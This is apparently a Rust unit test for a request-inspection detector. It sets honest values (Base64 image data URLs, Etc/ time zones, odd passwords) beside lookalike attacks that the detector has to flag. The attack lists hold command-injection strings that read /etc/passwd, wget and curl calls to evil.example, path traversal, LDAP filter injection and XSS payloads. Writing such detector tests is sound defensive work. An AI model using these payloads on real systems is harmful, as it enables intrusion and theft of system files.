//! Honest values beside the attacks that look like them, kind by kind, each in the field and at the
//! path that it came to.

use super::*;
use crate::places::Format;

/// One kind, in one place.
struct Pair {
    part: Part,
    name: &'static str,
    /// The path that it is sent to.
    path: &'static str,
    /// What passes.
    honest: &'static [&'static str],
    /// What is refused.
    attacks: &'static [&'static str],
}

/// In a member of a JSON body.
const fn body(name: &'static str, honest: &'static [&'static str], attacks: &'static [&'static str]) -> Pair {
    Pair {
        part: Part::Body,
        name,
        path: "/api/x",
        honest,
        attacks,
    }
}

/// The same of a query.
const fn query(name: &'static str, honest: &'static [&'static str], attacks: &'static [&'static str]) -> Pair {
    Pair {
        part: Part::Query,
        ..body(name, honest, attacks)
    }
}

#[rustfmt::skip]
const PAIRS: &[Pair] = &[
    // a file in Base64 within a URL: JPEG, MP3, UTF-16, with parameters, within markup, with the slashes of JSON
    body("avatar", &[
        "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAAMCAgICAgMC", "data:image/jpg;base64,/9j/2wCEAAkGBxMTEhUTEhMVFhUXGBgXGBcXFxcYGBgYFxgX",
        "data:audio/mpeg;base64,//uQxAAAAAAAAAAAAAAAAAAAAAAASW5mbwAAAA8AAAAC", "data:text/csv;charset=utf-16le;base64,//5OAGEAbQBlADsASQBkAA==",
        "data:text/plain;charset=\"utf-8\";base64,/v8AYQ==", "data:;base64,//4=", "data:image\\/jpeg;base64,\\/9j\\/4AAQSkZJRgABAQ",
        "data:image/jpeg;name=photo.jpg;base64,/9j/4AAQSkZJRgABAQ==", "a data:image/jpeg;base64,/9j/4A== and data:image/jpeg;base64,/9j/2w==",
    ], &[
        "x;base64,/etc/passwd", ";base64 /etc/hosts", "data:image/jpeg;base64,/9j/aa==;cat /etc/passwd", "data:image/jpeg;x=$(id);base64,/9j/4A==",
        "data:image/jpeg;base64,/9j/4A==|cat /etc/passwd", "x;cat /etc/passwd;data:image/jpeg;base64,/9j/4A==", "data:;ls -la;base64,/9j/4A==",
        "data:image/jpeg;cat /etc/passwd;base64,/9j/4A==", "data:image/jpeg;base64,/9j/4A==`id`", "data:image/jpeg;base64,/9j/$(cat /etc/passwd)",
        "data:image/jpeg;base64,/9j/4A==\n/bin/cat /etc/passwd",
    ]),
    query("photo", &["data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD"], &["data:image/jpeg;base64,/9j/4AAQ;wget http://evil.example/x"]),
    body("html", &[
        "<p><img src=\"data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ==\" alt=\"x\"></p><p><img src='data:image/jpeg;base64,/9j/2wCEAAkGBw=='></p>",
    ], &[
        "<p><img src=\"data:image/jpeg;base64,/9j/4AAQ\" onerror=alert(1)></p>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    ]),
    body("messages[0].content[0].image_url.url", &["data:image/jpeg;base64,/9j/4AAQSkZJRgABAQ=="], &["data:image/jpeg;base64,/9j/4AAQ;curl http://evil.example/"]),
    // time zones beside files
    query("tz", &[
        "Etc/UTC", "Etc/GMT+5", "Etc/GMT-14", "etc/utc", "Etc/Greenwich", "Etc/UTC,Europe/Berlin", "\"Etc/UTC\"", "America/Argentina/Ushuaia,Etc/GMT",
    ], &[
        "etc/passwd", "Etc/UTC/../passwd", "/etc/passwd", "Etc/UTC,/etc/passwd", "etc/GMT+5/../shadow", "Etc/UTC,var/log/syslog", "etc/hosts", "../etc/UTC/../passwd",
    ]),
    body("timeZone", &["Etc/UTC", "Etc/Unknown"], &["etc/shadow", "/etc/passwd"]),
    // passwords that look like a filter or a path
    body("password", &["(*)(uid=x)", "/etc/kim", "a(b)*(c=d)"], &["*)(uid=*))(|(uid=*", "x)(uid=admin))(|(a=b", "/etc/passwd", "../../etc/shadow"]),
];

fn found(pair: &Pair, text: &str) -> Option<(&'static str, &'static str)> {
    let field = Field {
        place: Place {
            part: pair.part,
            name: pair.name,
        },
        role: Role::Value,
        value: text.as_bytes(),
        spelling: Spelling::Literal,
    };
    let is_body = pair.part == Part::Body;
    let options = Options {
        context: Context {
            path: pair.path,
            content_type: if is_body { "application/json" } else { "" },
            format: is_body.then_some(Format::Json),
        },
        ..Options::STANDARD
    };
    let caught = DETECTORS.look_for(&field, &options)?;
    (caught.finding.score >= CERTAIN).then_some((caught.family.name(), caught.finding.rule))
}

#[test]
fn honest_values_pass_where_attacks_like_them_do_not() {
    let mut wrong = Vec::new();
    for pair in PAIRS {
        let refused = pair
            .honest
            .iter()
            .filter_map(|text| Some((text, Some(found(pair, text)?))));
        let passed = pair.attacks.iter().filter(|text| found(pair, text).is_none());
        wrong.extend(
            refused
                .chain(passed.map(|text| (text, None)))
                .map(|wrong| (pair.name, wrong)),
        );
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
